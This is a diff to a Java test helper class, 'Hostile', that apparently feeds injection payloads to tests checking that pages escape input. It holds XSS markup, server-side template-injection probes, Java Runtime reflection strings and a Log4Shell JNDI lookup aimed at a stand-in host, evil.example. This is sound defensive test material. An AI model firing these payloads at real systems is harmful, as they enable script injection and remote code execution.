@@ -10,8 +10,8 @@ final class Hostile {
     /** A tag, an attribute or a call of this name in a page is markup that came to life. */
     static final String MARK = "pwned";
 
-    /** What 7 times 191 makes; wherever it is shown, something was evaluated. */
-    static final String EVALUATED = "1337";
+    /** What 40127 times 31337 makes, too long to stand in a token by chance; where it is shown, something was evaluated. */
+    static final String EVALUATED = "1257459799";
 
     private static final List<String> MARKUP = List.of(
             "<script>pwned()</script>",
@@ -29,22 +29,22 @@ final class Hostile {
             "<form action=//evil.example><button formaction=javascript:pwned()>");
 
     private static final List<String> TEMPLATES = List.of(
-            "${7*191}",
-            "#{7*191}",
-            "*{7*191}",
-            "[[${7*191}]]",
-            "[(${7*191})]",
-            "__${7*191}__::.x",
-            "|${7*191}|",
+            "${40127*31337}",
+            "#{40127*31337}",
+            "*{40127*31337}",
+            "[[${40127*31337}]]",
+            "[(${40127*31337})]",
+            "__${40127*31337}__::.x",
+            "|${40127*31337}|",
             "~{::x}",
-            "#set($p=7*191)$p",
+            "#set($p=40127*31337)$p",
             "$esc.getClass().forName('java.lang.Runtime')",
-            "#parse('x')#evaluate('#set($p=7*191)$p')",
-            "{{7*191}}",
-            "<%=7*191%>",
-            "=7*191",
+            "#parse('x')#evaluate('#set($p=40127*31337)$p')",
+            "{{40127*31337}}",
+            "<%=40127*31337%>",
+            "=40127*31337",
             "T(java.lang.Runtime).getRuntime()",
-            "%{7*191}",
+            "%{40127*31337}",
             "${jndi:ldap://evil.example/x}");
 
     private static final List<String> FORMULAS =
@@ -79,6 +79,6 @@ final class Hostile {
 
     /** The worst of them in a name of 120 characters. */
     static String name() {
-        return "<pwned>\"><img src=x onerror=pwned()>'[[${7*191}]]__${7*191}__#set($p=7*191)$p";
+        return "<pwned>\"><img src=x onerror=pwned()>'[[${40127*31337}]]__${40127*31337}__#set($p=40127*31337)$p";
     }
 }
